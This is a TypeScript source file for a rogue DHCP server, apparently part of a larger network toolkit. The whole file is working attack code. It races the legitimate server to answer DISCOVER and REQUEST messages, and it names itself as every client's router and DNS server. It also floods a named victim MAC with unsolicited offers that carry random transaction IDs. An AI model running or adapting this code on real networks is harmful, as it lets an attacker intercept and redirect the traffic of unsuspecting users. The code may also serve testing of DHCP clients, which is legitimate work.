/**
 * A rogue DHCP server: it answers every client at once, while the honest server still checks whether its offer is free.
 * While it receives no request, it sends unsolicited offers.
 */
import { randomInt } from "node:crypto";
import type { LinuxLibc } from "../../native/linux/libc.ts";
import { openPacketSocket, type RawSocket } from "../../native/linux/packet-socket.ts";
import { BROADCAST_MAC, LIMITED_BROADCAST } from "../../wire/address.ts";
import {
  BOOT_REPLY,
  BOOT_REQUEST,
  DHCP_ACK,
  DHCP_CLIENT_PORT,
  DHCP_DISCOVER,
  DHCP_OFFER,
  DHCP_REQUEST,
  DHCP_SERVER_PORT,
  DhcpMessage,
  emitDhcp,
} from "../../wire/dhcp.ts";
import { serverOptions } from "../dhcp-options.ts";
import { readUdp, udpFrame } from "../frames.ts";

const GUESS_EVERY = 100; // milliseconds

export interface RoguePlan {
  readonly link: string;
  readonly mac: number;
  /** Its own address, which it announces as server, router and DNS server. */
  readonly address: number;
  readonly netmask: number;
  /** What it gives to everyone. */
  readonly given: number;
  /** The target of unsolicited offers. */
  readonly victimMac: number;
}

export class RogueDhcp {
  readonly #plan: RoguePlan;
  readonly #socket: RawSocket;
  readonly #guessing: NodeJS.Timeout;
  readonly #message = new DhcpMessage();

  constructor(libc: LinuxLibc, plan: RoguePlan) {
    this.#plan = plan;
    this.#socket = openPacketSocket(libc, plan.link);
    this.#socket.listen((frame) => this.#hear(frame));
    const guess = () => this.#answer(DHCP_OFFER, randomInt(2 ** 32), plan.victimMac);
    this.#guessing = setInterval(guess, GUESS_EVERY);
    guess();
  }

  close(): void {
    clearInterval(this.#guessing);
    this.#socket.close();
  }

  #hear(frame: Uint8Array): void {
    const message = this.#message;
    const udp = readUdp(frame);
    if (udp?.destinationPort !== DHCP_SERVER_PORT || !message.read(frame, udp.at, udp.length)) return;
    if (message.op !== BOOT_REQUEST) return;
    if (message.messageType === DHCP_DISCOVER) this.#answer(DHCP_OFFER, message.xid, message.chaddr);
    if (message.messageType === DHCP_REQUEST) this.#answer(DHCP_ACK, message.xid, message.chaddr);
  }

  #answer(type: number, xid: number, chaddr: number): void {
    const { mac, address, netmask, given } = this.#plan;
    const options = serverOptions(type, { server: address, netmask, router: address, dns: address, leaseSeconds: 600 });
    this.#socket.send(
      udpFrame(
        { mac, address, port: DHCP_SERVER_PORT },
        { mac: BROADCAST_MAC, address: LIMITED_BROADCAST, port: DHCP_CLIENT_PORT },
        emitDhcp({ op: BOOT_REPLY, xid, chaddr, yiaddr: given, options }),
      ),
    );
  }
}
